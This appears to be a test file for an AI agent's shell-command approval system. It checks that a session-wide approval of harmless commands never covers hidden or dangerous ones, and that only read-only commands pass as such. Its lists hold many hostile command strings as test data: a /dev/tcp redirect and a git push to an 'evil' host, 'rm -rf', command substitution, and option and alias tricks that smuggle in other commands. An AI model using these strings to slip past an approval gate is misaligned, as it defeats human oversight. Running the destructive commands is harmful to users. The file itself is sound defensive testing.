"""Commands that an approval for the session covers, and those that only read.

The attacks are those of a model that has "Accept and remember" for harmless commands and tries to
run something else without approval.
"""

import os
import shlex
import shutil
import subprocess
from pathlib import Path

import pytest
from hypothesis import assume, example, given, settings
from hypothesis import strategies as st

from eca_server.agent.tools.command_keys import CommandPart, command_parts
from eca_server.agent.tools.read_only_commands import why_not_read_only
from eca_server.agent.tools.remembered_programs import ANY_ARGUMENTS, FORMS, NEVER
from eca_server.workspace.boundary import Workspace
from tests.eca_server.agent.tools.file_tools import workspace_of

PROGRAMS = f"""
    {" ".join(FORMS)} foo foo.sh make rm curl sudo env xargs bash python3.12 find rg sed sort GIT
    patch unzip m4 Bash node18 perl5.36 gcc-12 timeout git-evil mkdir ls cat grep tee head jq awk
""".split()
BASH = shutil.which("bash") or ""


@pytest.fixture(scope="module")
def machine(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Create a directory of programs, and beside it the workspace `ws`."""
    top = tmp_path_factory.mktemp("machine").resolve()
    make_programs(top / "bin", *PROGRAMS)
    (top / "ws" / "sub").mkdir(parents=True)
    (top / "bin" / "viewer").symlink_to("bash")
    return top


def make_programs(folder: Path, *names: str) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    for name in names:
        (folder / name).write_text("#!/bin/sh\n")
        (folder / name).chmod(0o755)


def parts(machine: Path, command: str, path: str = "") -> tuple[CommandPart, ...]:
    root = machine / "ws"
    path = path or str(machine / "bin")
    return command_parts(command, folder=str(root), workspace=workspace_of(root), path=path)


def keys(machine: Path, command: str, path: str = "") -> list[str | None]:
    return [part.key for part in parts(machine, command, path)]


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("git checkout -b topic", ["git checkout"]),
        ("git checkout main~2", ["git checkout"]),
        ("git checkout -", ["git checkout"]),
        ("git restore --staged a.py", ["git restore --staged"]),
        ("git stash", ["git stash"]),
        ("git stash -u", ["git stash"]),
        ("git stash push -m 'a b'", ["git stash push"]),
        ("git stash list", ["git stash list"]),
        ("date -u +%F", ["date"]),
        ("date -d 'last friday' -Iseconds", ["date"]),
        ("git --no-pager log --oneline -5", ["git log"]),
        ("git commit -am 'one; two | three $x'", ["git commit"]),
        ("git push -u origin topic", ["git push"]),
        ("npm test", ["npm test"]),
        ("npm run build:dev", ["npm run build:dev"]),
        ("cargo build --release -p one", ["cargo build"]),
        ("docker ps -aq", ["docker ps"]),
        ("kubectl get pods -n prod -o wide", ["kubectl get"]),
        ("go test -run TestX ./...", ["go test"]),
        ("pytest -xvs tests/test_a.py -n4", ["pytest"]),
        ("python -m pytest -q", ["python -m pytest"]),
        ("ls -la *.py", ["ls"]),
        ("find . -name '*.py'", ["find"]),
        ("sed -n 1,20p a.txt", ["sed"]),
        ("make test", ["make test"]),
        ("rm build/a.o", ["rm build/a.o"]),
        ("git status | head -5 && echo done", ["git status", "head", "echo"]),
        ("git status; npm test\nls", ["git status", "npm test", "ls"]),
        ("npm test 2>&1 >/dev/null", ["npm test"]),
        ("\"git\" 'status'", ["git status"]),
        ("git status;", ["git status"]),
        ("sudo rm x; git status", [None, "git status"]),
        ("npm test > log; ls", [None, "ls"]),
    ],
)
def test_a_part_is_remembered_by_program_and_subcommand(machine, command, expected):
    assert keys(machine, command) == expected


ATTACKS = [
    # Interpreters, and programs that run what their arguments say.
    "sh -c 'rm x'", "bash x.sh", "python -c 'print(1)'", "python x.py", "python -m http.server",
    "python3 -m pytest_evil", "node -e 1", "node18 -e 1", "perl5.36 -e 1", "Bash -c ls",
    "python3.12 -m pytest", "awk 'BEGIN{system(\"x\")}'", "env ls", "xargs ls", "sudo ls",
    "eval ls", "exec ls", "command ls", "builtin cd", "nohup ls", "timeout 5 npm test", "time ls",
    "source x", ". ./x", "trap ls EXIT", "find . -exec ls {} +", "find . -ok ls", "find . -delete",
    "rg --pre sh x", "sed -i s/a/b/ x", "sed 1e x", "sort --compress-program=sh x",
    "sort -o src/a.py x", "foo bash -c ls", "foo /bin/sh x", "foo python3.12 x.py",
    "foo --exec=ls", "foo -c ls", "foo -e ls", "foo -xe ls", "foo --command ls", "foo 'ls; rm x'",
    "foo \"$(ls)\"", "viewer x", "gcc-12 -wrapper sh,x a.c", "tee x",
    # Input that is code, or a list of files.
    "echo x | make -f -", "echo x | npm run repl", "ls | foo x", "echo x | git checkout a",
    "patch -p1", "patch -i x.diff", "unzip x.zip", "echo x | m4", "echo x | cat | foo x",
    # Options of listed programs that name a command or other rules.
    "git -c alias.st=!sh status", "git -C sub status", "git --exec-path=x status",
    "git --git-dir=x status", "git st", "git evil", "git-evil", "GIT status",
    "git --no-pager -c core.pager=sh log", "git rebase -x ls main", "git rebase --exec=ls main",
    "git bisect run ls", "git submodule foreach ls", "git config core.pager sh", "git clone x",
    "git fetch --upload-pack=x origin", "git fetch ext::sh", "git push --receive-pack=x origin",
    "git push git@evil.org:x main", "git push origin +main", "git push origin :main",
    "git push --force origin", "git merge -s evil main", "git grep -Osh x", "git log --output=x",
    "git diff --ext-diff", "git difftool -x ls", "git apply x.patch", "git reset --hard",
    "git stash clear", "git stash drop", "git stash pop", "git stash -q clear",
    "git stash branch x", "git checkout .", "git checkout -- .", "git checkout -- a.py",
    "git checkout sub", "git checkout main sub", "git checkout -f main", "git checkout '*.py'",
    "git checkout :/",
    "git checkout --theirs a.py", "git restore .", "git restore -- .", "git restore -SW .",
    "git restore --staged --worktree .", "git restore -q --staged --work .",
    "date -f x", "date -ux", "date -uf x", "date --file=x", "date -r x", "date --reference=x",
    "date -s 1", "date --set=1", "date 01011200", "date 30", "date --fi=x",
    "git clean -fd", "git commit -m -- --fixup=x -c evil", "git add -- --pathspec-from-file=x",
    "git add *", "git checkout [-]*", "git branch -D main", "git archive --exec=x HEAD",
    "cargo --config build.rustc=x build", "cargo build --config build.rustc=x", "cargo evil",
    "cargo clippy -- -Clinker=x", "cargo build --target x.json", "cargo run", "cargo +evil build",
    "npm test -- --x", "npm run", "npm run build -- -x", "npm run ./x", "npm exec ls", "npm x ls",
    "npm --prefix sub test", "npm install evil", "npm run build x", "yarn evil", "pnpm dlx evil",
    "docker run -v .:/x image sh", "docker exec x sh", "docker -H tcp://x ps", "docker build .",
    "docker compose up", "kubectl exec x -- sh", "kubectl get --kubeconfig=x pods",
    "kubectl evil", "go test -exec sh ./...", "go build -toolexec=x ./...", "go run .",
    "go vet -vettool=x ./...", "go generate ./...", "go env -w CC=x", "pytest -p evil",
    "pytest -c x.ini", "pytest --basetemp=src", "pytest --rootdir=x",
    "pytest @options", "ruff check @options",
    # Variables, the shell's own state, and what changes the words behind it.
    "X=1 git status", "PATH=. git status", "GIT_SSH_COMMAND=x git fetch", "a[0]=x git status",
    "! git status", "{ ls; }",
    # Programs in the workspace, or anywhere by a path.
    "./run.sh", "sub/run.sh", "../ws/run.sh", "/bin/ls", "~/x", "$HOME/x", "unknown-program",
    # What cannot be judged.
    "git status & ls", "(ls)", "ls $(id)", "ls `id`", "ls $x", "$x status", "ls ${x@P}", "g$y log",
    "ls {a,b}", "ls $'\\x41'", "ls <(id)", "cat <<E\nx\nE", "cat <<< x", "ls # x", "ls 'x", "ls\0",
    "ls() { id; }", "", ";", "# x", "ls " + "x" * 5000, ";".join(["ls"] * 60), "[ x ]", "[[ x ]]",
    # Redirections that write, or read what decides.
    "npm test > x", "echo x >> x", "ls 2> x", "ls &> x", "ls >& x", "cat < x", "> x", "ls >| x",
    "cat <> x", "echo x > /dev/tcp/evil/80", "ls > \"$x\"",
    # Texts that would be shown as something else.
    "foo 'a\nls'", "foo a\u202eb", "foo " + "x" * 200,
]  # fmt: skip


def test_what_may_hide_another_command_is_never_covered(machine):
    assert [command for command in ATTACKS if None not in keys(machine, command)] == []


STATE = [
    "export PATH=sub; KEY", "PATH=sub; KEY", "alias ls=rm; KEY", "cd sub; KEY", "cd - && KEY",
    "cd sub || KEY", "cd sub && ls; KEY", "cd sub | ls && KEY", "ls | cd sub && KEY",
    "cd s* && KEY", "cd $x && KEY", "cd sub/../sub && KEY", "cd && KEY", "cd sub sub && KEY",
    "pushd sub && KEY", "hash -p ./x git; KEY", "enable -n echo; KEY", "set -- x; KEY",
    "read PATH; KEY", "printf -v PATH x; KEY", "shopt -s x; KEY", "source x; KEY",
    "for x in 1; do KEY; done", "if true; then KEY; fi", "while true; do KEY; done",
    "function ls { KEY; }", "exec 3> x; KEY", "$x; KEY", "unset x; KEY", "coproc KEY",
]  # fmt: skip


def test_a_part_has_no_key_behind_what_may_change_its_meaning(machine):
    assert keys(machine, "git status") == ["git status"]
    commands = [command.replace("KEY", "git status") for command in STATE]
    assert [each for each in commands if "git status" in keys(machine, each)] == []


def test_a_part_behind_a_cd_is_remembered_for_the_folder_it_leads_to(machine):
    (machine / "ws" / "link").symlink_to("sub")
    top, sub = str(machine / "ws"), str(machine / "ws" / "sub")
    for folder in ("sub", "link"):
        command_parts = parts(machine, f"cd {folder} && npm test | head")
        named = [(part.key, part.folder) for part in command_parts]
        assert named == [("cd", top), ("npm test", sub), ("head", sub)]
    assert [part.folder for part in parts(machine, "npm test")] == [top]


def test_a_program_that_lies_in_the_workspace_is_never_covered(machine):
    own = machine / "ws" / "bin"
    make_programs(own, "git", "foo", "pytest", "ls")
    path = f"{own}{os.pathsep}{machine / 'bin'}"
    for command in ("git status", "foo x", "ls", "echo x | ls"):
        assert None in keys(machine, command, path)
    assert keys(machine, "pytest -x; npm test; pwd", path) == ["pytest", "npm test", "pwd"]


def test_a_link_between_the_workspace_and_a_program_is_never_covered(machine):
    inside, outside = machine / "ws" / "links", machine / "links"
    inside.mkdir()
    outside.mkdir()
    (inside / "git").symlink_to(machine / "bin" / "git")
    make_programs(machine / "ws" / "tools", "foo")
    (outside / "foo").symlink_to(machine / "ws" / "tools" / "foo")
    assert keys(machine, "git status", str(inside)) == [None]
    assert keys(machine, "foo x", str(outside)) == [None]
    assert keys(machine, "git status", "bin:.") == [None]  # a relative entry finds nothing


def test_a_part_is_shown_short_and_without_what_a_screen_would_obey(machine):
    (part,) = parts(machine, "foo 'a\nb\x1b[2J' $x >in 2>> out")
    assert part.words == ("foo", "a\\nb\\x1b[2J", "$...", "> in", ">> out")
    (part,) = parts(machine, "for x in 1; do\n  ls\ndone")
    assert part.words == ("for x in 1; do ls done",)
    (part,) = command_parts("a" * 9000 + " &", folder="/", workspace=Workspace([]), path="")
    assert (part.key, len(part.words)) == (None, 1)
    assert len(part.words[0]) < 300


def test_no_listed_program_is_barred():
    assert not NEVER & (ANY_ARGUMENTS | FORMS.keys()) - {"false", "true"}


COMMANDS = ("git status", "ls", "foo x", "cd sub", "npm test", "jq .", "make x", "sh", "A=1", "./x")
CODE = ("$(sh x)", "`sh x`", "$x", "a_b", '"$x"', "\\;", "*")
WORDS = (*CODE, "-c", "--", "{a,b}", "-exec", "~", "x")
JOINTS = (*(";", "&&", "||", "|", "\n"), "\\\n", "&", ">", "<", "(", ")", " #", "")
TEXTS = st.lists(
    st.tuples(
        st.sampled_from(COMMANDS),
        st.lists(st.sampled_from(WORDS), max_size=2),
        st.sampled_from(JOINTS),
    ),
    min_size=1,
    max_size=3,
).map(lambda pieces: "".join(f"{' '.join([name, *words])}{end}" for name, words, end in pieces))


@settings(max_examples=80)
@given(TEXTS)
@example("jq . $(sh x)")
@example("ls `sh x` && foo x\nls;npm test || git status | jq .")
def test_a_covered_command_runs_no_program_but_those_it_shows(machine, text):
    """Compare the parts with the commands that bash itself would run, word for word."""
    parts_of_text = parts(machine, text)
    if not all(part.key for part in parts_of_text):
        return
    script = f'set -T; trap \'printf "%s\\n" "$BASH_COMMAND" >&2\' DEBUG\n{text}'
    run = subprocess.run(
        [BASH, "--norc", "-c", script], capture_output=True, text=True, check=False,
        cwd=machine / "ws", env={"PATH": str(machine / "bin")}, stdin=subprocess.DEVNULL,
    )  # fmt: skip
    lines = [line for line in run.stderr.splitlines() if not line.startswith(BASH)]
    named = [shlex.split(line)[0] for line in lines]
    assert set(named) <= {part.words[0] for part in parts_of_text}


READING = [
    "ls", "ls -la src", "pwd", "cat a b", "cat 'my file'", "head -n 5 a | tail -2", "echo hi",
    "grep -rn 'a\\|b$' . --include='*.py'", 'grep "x" a', "rg -n --pretty foo src",
    "find . -name '*.py' -type f", "find src -newer a ! -name b | wc -l", "ls *.py", "wc -l *.py",
    "git status", "git --no-pager log --oneline -5", "git diff HEAD~1 -- a.py", "git show HEAD",
    "git branch", "git branch -a", "git branch --list 'x*'", "git branch --show-current",
    "git remote -v", "git tag --list", "git ls-files | grep py", "git blame a.py",
    "git diff --stat 2>&1 | head", "ls 2>/dev/null", "ls > /dev/null 2>&1", "ls &>/dev/null",
    "cd src && ls", "ls; pwd\ncat a || true", "ls |\nwc -l", "stat a", "file -b a", "tree -L 2 src",
    "du -sh .", "df -h", "sed -n 10,20p a", "sed -n '5,$p' a b", "sort -u a | uniq -c",
    "sort -k1,2 -t, a", "cut -d: -f1 a", "echo a >&2", "ls ~", "ls 'a;b' \"c|d\"",
]  # fmt: skip

NOT_READING = [
    "", "  ", ";", "rm -rf x", "ls; rm x", "ls && rm x", "ls || rm x", "ls | xargs rm", "ls\nrm x",
    "rm x | ls", "ls > x", "ls >> x", "echo x >/dev/nul", "echo x > /dev/sda", "ls >| x", "ls &> x",
    "echo x >&file", "cat <> x", "cat < x", "cat <<E\nE", "ls 2>err", "echo x >'/dev/null'/../y",
    "ls $(rm x)", "ls `rm x`", 'ls "$(rm x)"', 'ls "`rm x`"', "ls ${x:=y}", "ls $X", "ls $'a'",
    "ls <(rm x)", "(ls)", "{ ls; }", "ls & rm x", "ls &", "! ls", "if ls; then ls; fi",
    "PATH=. ls", "X=1", "./ls", "/bin/ls", "$SHELL", "l*", "~/x", "ls() { rm x; }", "eval ls",
    "bash -c ls", "env ls", "sudo ls", "xargs ls", "tee x", "dd if=a of=b", "cp a b", "mv a b",
    "touch x", "mkdir x", "ln -s a b", "chmod +x a", "curl http://x", "python -c 1", "npm install",
    "find . -delete", "find . -exec rm {} ';'", "find . -execdir rm", "find . -ok rm",
    "find . -fprint x", "find . -fprintf x y", "find . -fls x", "find *", "find . {-delete,}",
    "find . '-'delete", "find . \\-delete", "find . -d* ", "find . ''*",
    "rg --pre=./x a", "rg --pre ./x a", "rg --hostname-bin=x a", "rg -z a", "rg *",
    "tree -o x", "tree -ao x", "tree --output=x", "tree -R -L 1 -H .", "file -C", "file -Cm x",
    "sort -o x a", "sort -uo x a", "sort --output=x a", "sort --out x a", "uniq a b", "sort *",
    "sort --compress-program=./x a",
    "sed -i s/a/b/ x", "sed -n 'w x' a", "sed -n 1p -i a", "sed -n -i 1p a", "sed -n '1e rm' a",
    "sed 's/a/b/w x' a", "sed -n '1p;w x' a", "sed -n", "awk 1", "sed -n '1p\nw x' a",
    "git", "git commit -m x", "git push", "git add .", "git checkout .", "git reset --hard",
    "git st", "git -c core.pager=x log", "git -C x status", "git --exec-path=. status",
    "git -p log", "git --git-dir=x log", "git diff --output=x", "git diff --outp=x",
    "git log --o x",
    "git diff --ext-diff", "git log --textconv", "git grep -Ox a", "git branch x",
    "git branch -d x",
    "git branch -D x", "git branch -m x", "git branch -v x", "git branch -l x", "git tag v1",
    "git tag -d v1", "git remote add a b", "git stash", "git stash drop", "git config a b",
    "cd x && git status", "git diff *", "git show --show-signature", "git branch --list -D x",
    "ls # x", "ls # it's\nrm -rf x #'", "ls \\\n; rm x", "ls\r\nrm x", "'ls", 'ls "', "ls \0",
    "ls |& rm x", "ls;;", "ls <<< x", "time ls", "coproc ls", "exec ls", "echo a > /dev/null > b",
    "l\\\ns; r\\\nm x",
]  # fmt: skip


REASONS = {"ls; rm x": "rm", "ls > x": ">", "ls $(rm x)": "$(", "'ls": "quote", "git gc": "git"}


def test_a_command_that_only_reads_is_known_as_such():
    assert {each: why for each in READING if (why := why_not_read_only(each))} == {}


def test_a_command_that_may_write_is_refused_with_the_reason():
    reasons = {each: why_not_read_only(each) for each in (*NOT_READING, *REASONS)}
    assert [command for command, why in reasons.items() if not why] == []
    assert all(word in (reasons[command] or "") for command, word in REASONS.items())


joins = st.sampled_from([";", "&&", "||", "|", "|&", "\n", " ; ", " && ", "\n\n"])
pieces = st.sampled_from([*READING, "ls 'rm x'", 'echo "; rm x"', "grep -e '>' a"])
writing = st.sampled_from(
    ["rm x", "tee x", "ls > x", "find . -delete", "git commit", "$(rm x)", "`rm x`", "x=1 ls", "sh"]
)


@given(st.lists(pieces, min_size=1, max_size=4), st.data())
def test_what_only_reads_stays_so_when_joined(commands, data):
    text = commands[0]
    for command in commands[1:]:
        text += data.draw(joins) + command
    assume(not ("cd " in text and "git " in text))
    assert why_not_read_only(text) is None


@given(st.lists(pieces, max_size=3), st.lists(pieces, max_size=3), writing, st.data())
def test_one_writing_command_in_any_place_is_found(before, after, bad, data):
    text = ""
    for command in before:
        text += command + data.draw(joins)
    text += bad
    for command in after:
        text += data.draw(joins) + command
    assert why_not_read_only(text)
